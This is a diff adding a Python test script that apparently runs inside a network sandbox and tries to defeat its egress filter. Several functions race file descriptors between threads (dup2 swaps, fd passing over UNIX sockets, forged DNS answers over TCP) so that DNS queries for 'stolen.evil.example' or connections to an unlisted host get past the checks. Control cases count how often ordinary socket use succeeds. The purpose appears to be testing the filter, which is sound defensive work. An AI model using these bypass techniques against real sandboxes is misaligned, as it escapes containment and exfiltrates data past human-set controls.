@@ -1,0 +1,368 @@
+"""Runs inside the sandbox: one socket is looked at, and the kernel uses another, as a second thread comes in between.
+
+The words are a way and for how many seconds to try; an attempt ends when it got through, or then. The last line of
+output is how many times it was tried; of an honest way, how many times it went well.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import itertools
+import os
+import select
+import socket
+import struct
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from contextlib import ExitStack
+from pathlib import Path
+
+from queries import ALLOWED, RESOLVER, address_in, answer, framed, over_tcp, query, use
+from server_names import LIBC, address, checked, hello
+
+STOLEN = "stolen.evil.example"
+LISTED, UNLISTED = ("198.51.100.8", 9999), ("198.51.100.9", 80)
+SHARED = 300
+THREADS, TIMES = 4, 50
+SET_TIMER_SLACK = 29  # else a thread sleeps for 50 microseconds more than it was told
+RESET = struct.pack("ii", 1, 0)
+Tries = Iterator[None]
+WAYS: dict[str, Callable[[], Tries]] = {}
+
+
+def way(function: Callable[[], Tries]) -> Callable[[], Tries]:
+    WAYS[function.__name__] = function
+    return function
+
+
+def disconnect(number: int) -> int:
+    """As it was before it was connected. May be called while another thread uses it."""
+    return LIBC.connect(number, bytes(16), 16)
+
+
+def on_one_processor() -> None:
+    """Where a thread that others may interrupt at any place is behind them."""
+    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
+
+
+def behind_all_others() -> None:
+    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
+
+
+@contextlib.contextmanager
+def taking_turns(*numbers: int) -> Iterator[None]:
+    """These are laid over one number, all the time."""
+    done = threading.Event()
+
+    def lay() -> None:
+        while not done.is_set():
+            for number in numbers:
+                with contextlib.suppress(OSError):
+                    os.dup2(number, SHARED)
+
+    thread = threading.Thread(target=lay, daemon=True)
+    os.dup2(numbers[0], SHARED)
+    sys.setswitchinterval(1e-5)
+    thread.start()
+    try:
+        yield
+    finally:
+        done.set()
+        thread.join()
+
+
+def says_on_a_copy(data: bytes, place: tuple[str, int]) -> Tries:
+    """A TCP socket that is not connected may not be handed over: that is asked of UNIX sockets, and not of UDP ones. It
+    is connected when it was."""
+    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    udp, said = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), False
+    ours.setblocking(False)
+    with taking_turns(udp.fileno(), ours.fileno()):
+        shared = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM, fileno=SHARED)
+        while not said:
+            with socket.socket() as s, contextlib.suppress(OSError):
+                socket.send_fds(shared, [b"x"], [s.fileno()])
+                for copy in socket.recv_fds(theirs, 1, 1, socket.MSG_DONTWAIT)[1]:
+                    with open(copy, "wb", buffering=0) as file:
+                        s.connect(place)
+                        said = file.write(data) == len(data)
+            yield
+
+
+@way
+def a_copy_asks() -> Tries:
+    return says_on_a_copy(framed(query(STOLEN)), RESOLVER)
+
+
+@way
+def a_copy_greets() -> Tries:
+    return says_on_a_copy(hello(), address())
+
+
+def full_of(data: bytes, listener: socket.socket) -> tuple[socket.socket, socket.socket]:
+    """A connection of which both sides hold as much of that as they take, and its other end."""
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
+    s.connect(listener.getsockname())
+    other, _ = listener.accept()
+    other.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
+    other.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
+    other.setblocking(False)
+    stream, sent, idle = data * 4000, 0, 0
+    while idle < 3:
+        try:
+            sent += other.send(stream[sent : sent + 65536])
+        except BlockingIOError:
+            idle += 1
+            time.sleep(0.001)
+    return s, other
+
+
+def learn_from(forged: bytes, listener: socket.socket) -> None:
+    """A thread waits for an answer of the name server. Another connection, which holds forged ones, is laid under that
+    number, and as soon as some of those were taken, that socket is connected to the name server itself."""
+    with ExitStack() as stack:
+        real = stack.enter_context(over_tcp())
+        s, other = full_of(forged, listener)
+        stack.enter_context(s)
+        os.dup2(real.fileno(), SHARED)
+        shared = socket.socket(fileno=SHARED)
+        shared.setblocking(True)
+
+        def wait() -> None:
+            behind_all_others()
+            with contextlib.suppress(OSError):
+                shared.recv(16000)
+
+        thread = threading.Thread(target=wait)
+        thread.start()
+        time.sleep(0.003)
+        with contextlib.suppress(OSError):
+            os.dup2(s.fileno(), SHARED)
+        poll = select.poll()
+        poll.register(other, select.POLLOUT)
+        real.send(framed(query(ALLOWED)))  # the answer to which has the thread go on, with what it finds there
+        poll.poll(500)
+        os.close(other.detach())
+        disconnect(s.fileno())
+        s.setblocking(False)
+        with contextlib.suppress(OSError):
+            s.connect_ex(RESOLVER)
+        end = time.perf_counter() + 0.05  # meanwhile the thread has no processor
+        while time.perf_counter() < end:
+            with contextlib.suppress(OSError):
+                s.getpeername()
+                break
+        thread.join(1)
+        real.shutdown(socket.SHUT_RDWR)  # should it wait for that still
+        thread.join()
+        shared.close()
+
+
+def reached() -> bool:
+    with socket.socket() as s:
+        s.settimeout(2)
+        try:
+            s.connect(UNLISTED)
+        except OSError:
+            return False
+        s.sendall(b"evil.example")
+        return True
+
+
+@way
+def an_answer_of_our_own() -> Tries:
+    on_one_processor()
+    asked = query(ALLOWED)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(asked, RESOLVER)
+        s.recv(512)
+    forged = asked[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + asked[12:]
+    forged += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(UNLISTED[0])
+    listener = socket.socket()
+    listener.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    got_through = False
+    while not got_through:
+        learn_from(framed(forged), listener)
+        got_through = reached()
+        yield
+
+
+def writes_to_ourselves(taken_back: Callable[[socket.socket], int]) -> Tries:
+    """A thread writes to a server of our own. In the midst of that the connection is reset, and the socket connected to
+    the name server."""
+    on_one_processor()
+    LIBC.prctl(SET_TIMER_SLACK, 1)
+    pieces = [framed(query(STOLEN)), *[b""] * 300]  # which take the kernel some time, before it looks at the socket
+    listener = socket.create_server(("127.0.0.1", 0))
+    go, ready = threading.Semaphore(0), threading.Semaphore(0)
+    sockets: list[socket.socket] = []
+
+    def write() -> None:
+        behind_all_others()
+        while True:
+            go.acquire()
+            with contextlib.suppress(OSError):
+                sockets.pop().sendmsg(pieces)
+            ready.release()
+
+    threading.Thread(target=write, daemon=True).start()
+    for delay in itertools.cycle(range(10, 90, 2)):
+        with socket.socket() as s:
+            s.setblocking(False)
+            s.connect_ex(listener.getsockname())
+            other, _ = listener.accept()
+            other.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
+            sockets.append(s)
+            go.release()
+            time.sleep(delay / 1e6)
+            other.close()
+            taken_back(s)
+            s.connect_ex(RESOLVER)
+            ready.acquire()
+        yield
+
+
+@way
+def a_write_to_ourselves() -> Tries:
+    return writes_to_ourselves(lambda s: disconnect(s.fileno()))
+
+
+@way
+def a_write_in_the_background() -> Tries:
+    """The kernel disconnects by itself, when a second connect tells how the first one ended."""
+    return writes_to_ourselves(lambda s: s.connect_ex(("127.0.0.1", 9)))
+
+
+@way
+def a_datagram_by_a_local_socket() -> Tries:
+    """Whether what is sent is a question is not asked of UNIX sockets, which no name server reads."""
+    ours, _theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    ours.setblocking(False)
+    with taking_turns(udp.fileno(), ours.fileno()):
+        shared = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, fileno=SHARED)
+        while True:
+            with contextlib.suppress(OSError):
+                shared.sendto(query(STOLEN), RESOLVER)
+            yield
+
+
+# What is honest: the same calls, on sockets that nobody replaces.
+
+
+def in_threads(work: Callable[[], None]) -> Tries:
+    """Those that went well."""
+    went_well: list[None] = []
+
+    def repeat() -> None:
+        for _ in range(TIMES):
+            work()
+            went_well.append(None)
+
+    threads = [threading.Thread(target=repeat) for _ in range(THREADS)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    yield from went_well
+
+
+@contextlib.contextmanager
+def of_our_own() -> Iterator[tuple[socket.socket, socket.socket]]:
+    with ExitStack() as stack:
+        listener = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
+        s = stack.enter_context(socket.create_connection(listener.getsockname()))
+        yield s, stack.enter_context(listener.accept()[0])
+
+
+def handed_over(descriptor: int) -> int:
+    ours, theirs = socket.socketpair()
+    with ours, theirs:
+        socket.send_fds(ours, [b"x"], [descriptor])
+        return socket.recv_fds(theirs, 1, 1)[1][0]
+
+
+@way
+def files_are_handed_over() -> Tries:
+    expected = Path(__file__).read_bytes()[:100]
+
+    def work() -> None:
+        with open(__file__, "rb") as file:
+            copy = handed_over(file.fileno())
+        assert os.read(copy, 100) == expected
+        os.close(copy)
+
+    return in_threads(work)
+
+
+@way
+def own_connections_are_handed_over() -> Tries:
+    """As the processes of a pool do: what was connected, and what was accepted."""
+
+    def work() -> None:
+        with of_our_own() as (s, accepted):
+            for end in (s, accepted):
+                with socket.socket(fileno=handed_over(end.fileno())) as copy:
+                    copy.sendall(b"x")
+            assert (s.recv(1), accepted.recv(1)) == (b"x", b"x")
+
+    return in_threads(work)
+
+
+@way
+def a_udp_socket_is_connected_anew() -> Tries:
+    """From the name server to a listed address, and back."""
+
+    def work() -> None:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.settimeout(5)
+            for place, data in ((RESOLVER, query(ALLOWED)), (LISTED, b"x"), (RESOLVER, query(ALLOWED))):
+                s.connect(place)
+                s.send(data)
+                if place == RESOLVER:
+                    address_in(s.recv(512))
+                checked(disconnect(s.fileno()))
+
+    return in_threads(work)
+
+
+@way
+def an_answer_is_learnt_and_used() -> Tries:
+    def work() -> None:
+        with over_tcp() as s:
+            s.sendall(framed(query(ALLOWED)))
+            use(address_in(answer(s.recv)))
+
+    return in_threads(work)
+
+
+@way
+def own_connections_are_written_to() -> Tries:
+    """While other threads connect theirs to an allowed host, and numbers are used again."""
+
+    def work() -> None:
+        with of_our_own() as (s, accepted):
+            s.sendall(bytes(20_000))
+            accepted.sendall(b"x")
+            assert s.recv(1) == b"x"
+        with socket.create_connection(address()) as s:
+            s.sendall(hello(ALLOWED))
+
+    return in_threads(work)
+
+
+if __name__ == "__main__":
+    tried, end = 0, time.monotonic() + float(sys.argv[2])
+    for _ in WAYS[sys.argv[1]]():
+        tried += 1
+        if time.monotonic() > end:
+            break
+    time.sleep(0.3)
+    print(tried, flush=True)
+    os._exit(0)
